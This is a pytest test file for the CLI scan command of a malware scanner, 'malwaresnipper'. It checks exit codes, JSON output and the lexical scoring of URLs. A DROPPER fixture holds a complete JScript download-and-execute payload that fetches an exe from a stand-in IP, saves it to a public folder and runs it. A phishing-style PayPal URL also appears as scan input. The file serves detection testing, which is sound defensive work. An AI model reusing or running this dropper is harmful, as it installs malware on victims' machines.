"""`malwaresnipper scan`: files and URLs, JSON output, clamscan-style exit codes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from malwaresnipper.cli.main import main

DROPPER = (
    "var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');"
    "x.open('GET','http://198.51.100.7/p.exe',false);x.send();var b=new ActiveXObject('ADODB.Stream');"
    "b.Open();b.Write(x.ResponseBody);b.SaveToFile('C:\\\\Users\\\\Public\\\\a.exe',2);s.Run('C:\\\\Users\\\\Public\\\\a.exe');"
    "eval(unescape('%76%61%72%20%61%3d%31'));"
)


def run(capsys, *argv: str) -> tuple[int, str, str]:  # noqa: ANN001
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_benign_file_exits_zero(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    page = tmp_path / "page.html"
    page.write_text("<html><title>Hello</title><body><p>hi</p></body></html>")
    code, out, _ = run(capsys, "scan", str(page))
    assert code == 0
    assert "BENIGN" in out


def test_malicious_js_exits_one_with_json(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    js = tmp_path / "invoice.js"
    js.write_text(DROPPER)
    code, out, _ = run(capsys, "scan", "--json", str(js))
    assert code == 1
    obj = json.loads(out.strip().splitlines()[0])
    for key in ("url", "risk_score", "threat_level", "classification", "indicators", "layers"):
        assert key in obj
    assert obj["threat_level"] in ("SUSPICIOUS", "MALICIOUS")


def test_url_target_is_never_fetched_and_scored_lexically(capsys) -> None:  # noqa: ANN001
    code, out, _ = run(capsys, "scan", "--json", "http://203.0.113.9:8443/paypal.com/login/verify")
    obj = json.loads(out)
    assert obj["url"].startswith("http://203.0.113.9")
    assert any(i["layer"] == "url" for i in obj["indicators"])
    assert code in (0, 1)


def test_missing_file_is_an_error_exit_two(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    code, _, err = run(capsys, "scan", str(tmp_path / "nope.html"))
    assert code == 2
    assert "no such file" in err


def test_one_bad_target_among_good_ones_still_scans_the_rest(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    page = tmp_path / "ok.html"
    page.write_text("<p>fine</p>")
    code, out, _ = run(capsys, "scan", "--json", str(page), "not a url")
    lines = [json.loads(line) for line in out.strip().splitlines()]
    assert code == 2
    assert lines[0]["threat_level"] == "BENIGN" and "error" in lines[1]


def test_console_script_is_installed() -> None:
    proc = subprocess.run([sys.executable, "-m", "malwaresnipper.cli.main", "--help"], capture_output=True, text=True)
    assert proc.returncode == 0 and "scan" in proc.stdout
